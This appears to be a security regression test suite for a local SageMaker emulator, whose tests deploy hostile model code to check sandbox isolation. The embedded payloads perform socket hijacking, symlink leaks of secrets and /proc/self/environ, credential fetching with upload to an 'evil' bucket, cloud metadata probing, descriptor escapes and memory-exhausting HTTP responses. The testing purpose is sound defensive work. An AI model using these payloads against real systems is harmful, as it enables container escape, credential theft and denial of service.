"""Replicas that attack the server which speaks with them, and other roles' things."""

from __future__ import annotations

import asyncio
import io
import os
import socket
import tarfile
import tempfile
import textwrap
import threading
import time
from collections.abc import AsyncIterator, Awaitable, Callable, Iterator
from contextlib import contextmanager, suppress
from pathlib import Path
from typing import Any

import psutil
import pytest
from fake_workers import ping
from serving_client import settled
from training_client import wait_for

from cloche.engine import Address
from cloche.engine.local.probe import reduced
from cloche.replicas.pool import NoReply
from cloche.services.sagemaker.serving.router import MAX_ANSWER, Invocation, Router, VariantRoute
from cloche.testing.platform import Platform

SOCKET = "serve-model.sock"
IMAGE = "763104351884.dkr.ecr.us-east-1.amazonaws.com/pytorch-inference:1.8-cpu-py36"
ARN = "arn:aws:sagemaker:us-east-1:123456789012:endpoint/e"
MIB = 1 << 20
ANSWERS = """
def input_fn(body, content_type):
    return body
def predict_fn(data, model):
    return "answered"
"""


class Attacker:
    """Who may put models, with code of his own, into endpoints."""

    def __init__(self, platform: Platform) -> None:
        self.platform = platform
        self.s3, self.sagemaker = platform.client("s3"), platform.client("sagemaker")
        self.runtime = platform.client("sagemaker-runtime")
        self.role = platform.client("iam").list_roles()["Roles"][0]["Arn"]
        self.s3.create_bucket(Bucket="evil")
        self.number = 0

    def deploy(self, code: str, *, isolated: bool = False, **variables: str) -> str:
        self.number += 1
        name, stream = f"evil-{self.number}", io.BytesIO()
        data = (textwrap.dedent(code) + ANSWERS).encode()
        with tarfile.open(fileobj=stream, mode="w:gz") as tar:
            info = tarfile.TarInfo("code/inference.py")
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
        self.s3.put_object(Bucket="evil", Key=f"{name}.tar.gz", Body=stream.getvalue())
        uri = f"s3://evil/{name}.tar.gz"
        container = {"Image": IMAGE, "ModelDataUrl": uri, "Environment": variables}
        self.sagemaker.create_model(
            ModelName=name,
            PrimaryContainer=container,
            ExecutionRoleArn=self.role,
            EnableNetworkIsolation=isolated,
        )
        variant = {"VariantName": "v", "ModelName": name, "InitialInstanceCount": 1}
        variant |= {"InstanceType": "ml.t2.medium"}
        self.sagemaker.create_endpoint_config(EndpointConfigName=name, ProductionVariants=[variant])
        self.sagemaker.create_endpoint(EndpointName=name, EndpointConfigName=name)
        return name

    def serving(self, code: str, **more: Any) -> str:
        name = self.deploy(code, **more)
        found = settled(self.sagemaker, name)
        assert found["EndpointStatus"] == "InService", found
        return name

    def reason(self, code: str, **variables: str) -> str:
        """Return why a model's endpoint failed."""
        name = self.deploy(code, **variables)
        found = settled(self.sagemaker, name)
        assert found["EndpointStatus"] == "Failed"
        self.delete(name)
        reason: str = found["FailureReason"]
        return reason

    def invoke(self, name: str) -> bytes:
        answer = self.runtime.invoke_endpoint(EndpointName=name, Body=b"x", ContentType="a/b")
        body: bytes = answer["Body"].read()
        return body

    def gang(self, name: str) -> str:
        record = self.platform.app.store.find(f"{ARN[:-1]}{name}")
        assert record is not None
        [replica] = record.document["serving"]["replicas"]
        return f"endpoint-{replica['id']}"

    def has(self, key: str) -> bool:
        return bool(self.s3.list_objects_v2(Bucket="evil", Prefix=key).get("Contents"))

    def delete(self, name: str) -> None:
        self.sagemaker.delete_endpoint(EndpointName=name)


@pytest.fixture(scope="module")
def attacker(platform: Platform) -> Attacker:
    return Attacker(platform)


@pytest.fixture
def host_socket() -> Iterator[tuple[Path, list[object]]]:
    """A unix socket of the machine that only root may use, and who connected to it."""
    connected: list[object] = []
    folder = Path(tempfile.mkdtemp(prefix="host"))
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(str(folder / "docker.sock"))
        server.listen()
        server.settimeout(0.1)
        ended = threading.Event()

        def accept() -> None:
            while not ended.is_set():
                with suppress(OSError):
                    connected.append(server.accept())

        thread = threading.Thread(target=accept)
        thread.start()
        yield folder / "docker.sock", connected
        ended.set()
        thread.join()


SWAP = """
import os
def model_fn(model_dir):
    for path in ("/run/cloche/serve.sock", "/opt/ml/serve.sock", "/opt/ml/model/serve.sock"):
        if os.path.lexists(path):
            os.unlink(path)
        os.symlink(os.environ["TARGET"], path)
"""


@pytest.mark.control("At 0e393ec the server connects to the link's target and sends the request.")
def test_socket_swapped_for_a_link_to_the_machines(
    attacker: Attacker, host_socket: tuple[Path, list[object]]
) -> None:
    path, connected = host_socket
    name = attacker.deploy(SWAP, TARGET=str(path))
    wait_for(lambda: connected or attacker_status(attacker, name) == "InService", 30)
    assert not connected
    assert attacker.invoke(name) == b'"answered"'
    assert not connected
    attacker.delete(name)


def attacker_status(attacker: Attacker, name: str) -> str:
    status: str = attacker.sagemaker.describe_endpoint(EndpointName=name)["EndpointStatus"]
    return status


SEEK = """
import os, socket, sys
def model_fn(model_dir):
    known = ("/proc", "/sys", "/usr", sys.prefix, sys.base_prefix)
    for where, folders, names in os.walk("/"):
        folders[:] = [f for f in folders if os.path.join(where, f) not in known]
        for path in (os.path.join(where, name) for name in names):
            try:
                with socket.socket(socket.AF_UNIX) as line:
                    line.settimeout(1)
                    line.connect(path)
                    line.sendall(b"POST /invocations HTTP/1.1\\r\\nContent-Length: 0\\r\\n\\r\\n")
                    line.recv(1)
            except OSError:
                pass
"""


@pytest.mark.control(
    "test_without_a_sandbox_sockets_are_found: with the home folder in reach, the same search "
    "connects to what listens there."
)
def test_other_endpoints_sockets_are_not_found(attacker: Attacker) -> None:
    connected: list[object] = []
    with listening(attacker.platform.home.runs / "someone-else", connected):
        name = attacker.serving(SEEK)
    assert not connected
    attacker.delete(name)


def test_without_a_sandbox_sockets_are_found(tmp_path: Path) -> None:
    connected: list[object] = []
    scope: dict[str, Any] = {}
    exec(SEEK.replace('"/"', repr(str(tmp_path))), scope)
    with listening(tmp_path / "someone-else", connected):
        scope["model_fn"](None)
    assert connected


@contextmanager
def listening(folder: Path, connected: list[object]) -> Iterator[None]:
    folder.mkdir(parents=True)
    with socket.socket(socket.AF_UNIX) as server:
        os.symlink(folder, link := Path(tempfile.mkdtemp()) / "l")
        server.bind(f"{link}/{SOCKET}")
        server.listen()

        def accept() -> None:
            with suppress(OSError):
                line, _ = server.accept()
                connected.append(line)
                line.close()

        thread = threading.Thread(target=accept, daemon=True)
        thread.start()
        yield
        server.shutdown(socket.SHUT_RDWR)
        thread.join(10)


FAIL = """
import os, socket
def model_fn(model_dir):
    path, secret = "/run/cloche/failure", os.environ.get("SECRET", "")
    {leave}
    os._exit(1)
"""
LEAVES = {
    "link": "os.symlink(secret, path)",
    "relative_link": "os.symlink('../' * 30 + secret, path)",
    "link_to_a_link": "os.symlink(secret, '/run/cloche/a'); os.symlink('a', path)",
    "link_to_the_servers_memory": "os.symlink('/proc/self/environ', path)",
    "endless_device": "os.symlink('/dev/zero', path)",
    "fifo": "os.mkfifo(path)",
    "socket": "s = socket.socket(socket.AF_UNIX); s.bind(path); s.listen()",
    "folder": "os.mkdir(path)",
    "sparse": "f = open(path, 'wb'); f.truncate(1 << 40); f.close()",
    "one_line": "open(path, 'wb').write(b'x' * (64 << 20))",
    "no_text": "open(path, 'wb').write(bytes(range(256)) * 64)",
}


@pytest.mark.parametrize("leave", LEAVES)
@pytest.mark.control(
    "At 0e393ec link, relative_link, link_to_a_link tell the secret, link_to_the_servers_memory "
    "the server's environment, fifo freezes the server for good, endless_device reads without end."
)
def test_failure_that_is_no_failure(attacker: Attacker, leave: str, canary: Path) -> None:
    canary.write_text("the machine's secret\n")
    canary.chmod(0o600)
    with grown() as memory:
        reason = attacker.reason(FAIL.format(leave=LEAVES[leave]), SECRET=str(canary))
    assert "secret" not in reason and "HOME=" not in reason and "PATH=" not in reason
    assert len(reason) <= 1024
    assert reason.startswith("The primary container for production variant v did not pass the ping")
    assert memory[0] < 48 * MIB
    assert attacker.s3.list_buckets()["Buckets"]  # the server goes on


HIJACK = """
import os, socket, sys
def model_fn(model_dir):
    if sys.argv[0] != __file__:  # another program takes the honest one's place
        if "CLOCHE_SOCKET_FD" in os.environ:
            os.set_inheritable(int(os.environ["CLOCHE_SOCKET_FD"]), True)
        os.execv(sys.executable, [sys.executable, __file__])
    if "CLOCHE_SOCKET_FD" in os.environ:
        server = socket.socket(fileno=int(os.environ["CLOCHE_SOCKET_FD"]))
    else:  # as it was at 0e393ec
        os.unlink("/run/cloche/serve.sock")
        server = socket.socket(socket.AF_UNIX)
        server.bind("/run/cloche/serve.sock")
        server.listen()
    server.setblocking(True)
    while True:
        line, _ = server.accept()
        line.setblocking(True)
        if b"/ping" in line.recv(65536):
            line.sendall(b"HTTP/1.1 200 OK\\r\\nContent-Length: 0\\r\\n\\r\\n")
            line.close()
            continue
        try:
            line.sendall(b"HTTP/1.1 200 OK\\r\\nX-Endless: ")
            while True:
                line.sendall(b"a" * 1000000)
        except OSError:
            line.close()
if __name__ == "__main__":
    model_fn(None)
"""


@pytest.mark.control("At 0e393ec the server grows for 60 s, to 1 GB and more.")
def test_replica_with_an_endless_header(attacker: Attacker) -> None:
    name = attacker.deploy(HIJACK)
    wait_for(lambda: attacker_status(attacker, name) == "InService", 60)
    with grown() as memory, pytest.raises(attacker.runtime.exceptions.ModelError):
        attacker.invoke(name)
    assert memory[0] < 48 * MIB
    attacker.delete(name)


TAKE_OUT = """
import json, os, urllib.request
def model_fn(model_dir):
    place = os.environ["PLACE"]
    gateway = f"http://127.0.0.1:{place}"
    try:
        opened = urllib.request.build_opener(urllib.request.ProxyHandler({}))
        keys = json.load(opened.open(gateway + "/_cloche/credentials", timeout=3))
        import boto3
        s3 = boto3.client("s3", endpoint_url=gateway, region_name="us-east-1",
            aws_access_key_id=keys["AccessKeyId"], aws_secret_access_key=keys["SecretAccessKey"],
            aws_session_token=keys["Token"])
        s3.put_object(Bucket="evil", Key=os.environ["KEY"], Body=b"got out")
    except Exception as error:
        print("no way out:", error)
"""


@pytest.mark.control("test_without_isolation_the_model_gets_out; at 0e393ec the isolated one too.")
def test_isolated_model_has_no_platform_and_no_credentials(attacker: Attacker) -> None:
    place = str(attacker.platform.app.config.port)
    name = attacker.serving(TAKE_OUT, isolated=True, PLACE=place, KEY="isolated")
    assert not attacker.has("isolated")
    gang = attacker.gang(name)
    assert attacker.platform.app.engine.doors(gang) is None
    assert gang not in attacker.platform.app.doors.served
    assert attacker.invoke(name) == b'"answered"'
    attacker.delete(name)


def test_without_isolation_the_model_gets_out(attacker: Attacker) -> None:
    place = str(attacker.platform.app.config.port)
    name = attacker.serving(TAKE_OUT, PLACE=place, KEY="connected")
    assert attacker.has("connected")
    attacker.delete(name)


VARIABLES = """
import os
def model_fn(model_dir):
    named = [n for n in os.environ if n.upper().endswith(("_PROXY", "_URI", "_URL", "_KEY"))]
    raise ValueError(f"told of {named}")
"""


@pytest.mark.control("At 0e393ec: told of AWS_ENDPOINT_URL, AWS_CONTAINER_CREDENTIALS_FULL_URI, …")
def test_isolated_model_is_told_of_no_way_out(attacker: Attacker) -> None:
    name = attacker.deploy(VARIABLES, isolated=True)
    assert settled(attacker.sagemaker, name)["FailureReason"].endswith("told of []")
    attacker.delete(name)


METADATA = """
import os, socket
def model_fn(model_dir):
    own = int(os.environ["PORT"])
    for host, port in (("169.254.169.254", 80), ("169.254.170.2", 80), ("127.0.0.1", own)):
        try:
            with socket.create_connection((host, port), 2) as line:
                line.sendall(b"GET /latest/meta-data/ HTTP/1.0\\r\\n\\r\\n")
        except OSError:
            pass
"""


@pytest.mark.control("test_without_a_network_of_its_own: the same code reaches the listener.")
@pytest.mark.parametrize("isolated", [False, True])
def test_neither_metadata_nor_the_machines_ports(attacker: Attacker, isolated: bool) -> None:
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.setblocking(False)
        port = str(server.getsockname()[1])
        name = attacker.serving(METADATA, isolated=isolated, PORT=port)
        with pytest.raises(BlockingIOError):
            server.accept()
    attacker.delete(name)


def test_without_a_network_of_its_own(monkeypatch: pytest.MonkeyPatch) -> None:
    scope: dict[str, Any] = {}
    exec(METADATA.replace("169.254.169.254", "127.0.0.2").replace("169.254.170.2", "::1"), scope)
    with socket.create_server(("127.0.0.1", 0)) as server:
        monkeypatch.setenv("PORT", str(server.getsockname()[1]))
        scope["model_fn"](None)
        server.setblocking(False)
        server.accept()[0].close()


DESCRIPTORS = """
import os
def model_fn(model_dir):
    secret = os.environ["SECRET"].lstrip("/")
    for name in os.listdir("/proc/self/fd"):
        for up in ("", "../" * 30):
            try:
                text = os.read(os.open(up + secret, os.O_RDONLY, dir_fd=int(name)), 100)
            except (OSError, ValueError):
                continue
            raise ValueError(f"got out: {text}")
"""


@pytest.mark.control("A folder's descriptor that is inherited leads out by `..`: none is.")
def test_no_inherited_descriptor_leads_out(attacker: Attacker, canary: Path) -> None:
    canary.write_text("secret")
    name = attacker.deploy(DESCRIPTORS, SECRET=str(canary))
    found = settled(attacker.sagemaker, name)
    assert "got out" not in found.get("FailureReason", "")
    attacker.delete(name)


@pytest.mark.control("Without a socket that the server made it would be at a path inside.")
def test_socket_is_the_servers_without_sandboxes_too(
    attacker: Attacker, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(type(attacker.platform.app.engine), "machine", reduced("refused here"))
    name = attacker.serving("def model_fn(model_dir): return None")
    assert attacker.invoke(name) == b'"answered"'
    [made] = attacker.platform.home.runs.glob(f"endpoint-*/{SOCKET}")
    assert made.is_socket() and made.stat().st_mode & 0o777 == 0o600
    attacker.delete(name)


# What a replica may send, to the router itself.

Talk = Callable[[asyncio.StreamWriter], Awaitable[None]]


async def over_and_over(writer: asyncio.StreamWriter, first: bytes, again: bytes) -> None:
    writer.write(first)
    while not writer.is_closing():
        writer.write(again)
        await writer.drain()


def endless(first: bytes, again: bytes) -> Talk:
    return lambda writer: over_and_over(writer, first, again)


async def unasked(writer: asyncio.StreamWriter) -> None:
    answer = b"HTTP/1.1 200 OK\r\nContent-Length: 60000\r\n\r\n" + bytes(60_000)
    await over_and_over(writer, answer, answer)


OK = b"HTTP/1.1 200 OK\r\n"
CHUNKED = OK + b"Transfer-Encoding: chunked\r\n\r\n"
TALKS: dict[str, tuple[Talk, str]] = {
    "header": (endless(OK + b"X: ", b"a" * 100_000), "broke"),
    "header_name": (endless(OK, b"a" * 100_000), "broke"),
    "headers": (endless(OK, b"".join(b"X-%d: %d\r\n" % (n, n) for n in range(9999))), "broke"),
    "status": (endless(b"HTTP/1.1 200 ", b"a" * 100_000), "broke"),
    "interim": (endless(b"", b"HTTP/1.1 100 Continue\r\n\r\n" * 1000), "broke"),
    "early_hints": (endless(b"", b"HTTP/1.1 103 Hints\r\nX: y\r\n\r\n" * 1000), "broke"),
    "switching": (endless(b"HTTP/1.1 101 S\r\nUpgrade: x\r\n\r\n", b"a" * 9999), "broke"),
    "extension": (endless(CHUNKED + b"1;", b"a" * 100_000), "broke"),
    "extensions": (endless(CHUNKED, b"1;" + b"x" * 5000 + b"\r\na\r\n"), "broke"),
    "trailer": (endless(CHUNKED + b"0\r\nX: ", b"a" * 100_000), "broke"),
    "trailers": (endless(CHUNKED + b"0\r\n", b"X: y\r\n" * 10_000), "broke"),
    "chunks": (endless(CHUNKED, b"10000\r\n" + bytes(65536) + b"\r\n"), "too large"),
    "tiny_chunks": (endless(CHUNKED, b"1\r\na\r\n" * 50_000), "broke"),
    "body": (endless(OK + b"Content-Length: 99999999999\r\n\r\n", bytes(100_000)), "too large"),
    "no_http": (endless(b"\0" * 100, b"\xff" * 100_000), "broke"),
}


@contextmanager
def grown() -> Iterator[list[int]]:
    """Give a list of the bytes by which this process, the server's, has grown at most."""
    process, ended, found = psutil.Process(), threading.Event(), [0]
    before = process.memory_info().rss

    def look() -> None:
        while not ended.is_set():
            found[0] = max(found[0], process.memory_info().rss - before)
            ended.wait(0.02)

    thread = threading.Thread(target=look)
    thread.start()
    yield found
    ended.set()
    thread.join()


@pytest.fixture
async def replica(tmp_path: Path) -> AsyncIterator[Callable[[Talk], Awaitable[Address]]]:
    servers: list[asyncio.AbstractServer] = []
    with tempfile.TemporaryDirectory(prefix="rp") as name:

        async def make(talk: Talk) -> Address:
            async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
                with suppress(ConnectionError, asyncio.IncompleteReadError):
                    await reader.readuntil(b"\r\n\r\n")
                    await talk(writer)
                writer.close()

            servers.append(await asyncio.start_unix_server(serve, f"{name}/{SOCKET}"))
            return Address(path=f"{name}/{SOCKET}")

        yield make
        for server in servers:
            server.close()


@pytest.mark.parametrize("name", TALKS)
@pytest.mark.control(
    "At 0e393ec header, header_name, headers, trailer and status grow the server without end; "
    "interim answers are taken for the answer; tiny_chunks keep 90 bytes for each of the body's."
)
async def test_answer_without_end(replica: Callable[[Talk], Awaitable[Address]], name: str) -> None:
    talk, reason = TALKS[name]
    address = await replica(talk)
    router = Router(timeout_s=20)
    started = time.monotonic()
    router.publish(ARN, [VariantRoute("v", 1.0, {"one": address, "two": address})])
    with grown() as memory, pytest.raises(NoReply) as failed:
        await router.invoke(ARN, Invocation(b"x"))
    assert failed.value.reason == reason
    assert memory[0] < 32 * MIB
    assert time.monotonic() - started < 20
    assert await ping(address, 2.0) in (None, 200)


@pytest.mark.control("At 0e393ec a second answer was kept for the next caller's request.")
async def test_answers_that_nobody_asked_for(
    replica: Callable[[Talk], Awaitable[Address]],
) -> None:
    address = await replica(unasked)
    router = Router(timeout_s=10)
    router.publish(ARN, [VariantRoute("v", 1.0, {"one": address})])
    with grown() as memory:
        answered = await router.invoke(ARN, Invocation(b"x"))
        worker = router.endpoints[ARN]["v"].workers["one"]
        [link] = worker.spare
        async with asyncio.timeout(10):
            while not link.closed:  # noqa: ASYNC110 (the other side sends)
                await asyncio.sleep(0.01)
    assert len(answered.response.body) == 60_000
    assert memory[0] < 32 * MIB


@pytest.mark.control("Without the ping's bounds it lasted as long as the replica likes.")
async def test_slow_ping_ends_in_time(replica: Callable[[Talk], Awaitable[Address]]) -> None:
    async def dribble(writer: asyncio.StreamWriter) -> None:
        for byte in OK + b"Content-Length: 0\r\n" * 100:
            writer.write(bytes([byte]))
            await asyncio.sleep(0.2)

    address = await replica(dribble)
    started = time.monotonic()
    assert await ping(address, 0.5) is None
    assert time.monotonic() - started < 2


@pytest.mark.control("At 0e393ec a ping's answer could be as long as a model's, every 2 s.")
async def test_ping_with_a_long_answer(replica: Callable[[Talk], Awaitable[Address]]) -> None:
    body = OK + b"Content-Length: %d\r\n\r\n" % MAX_ANSWER
    address = await replica(endless(body, bytes(100_000)))
    with grown() as memory:
        assert await ping(address, 5.0) is None
    assert memory[0] < 8 * MIB
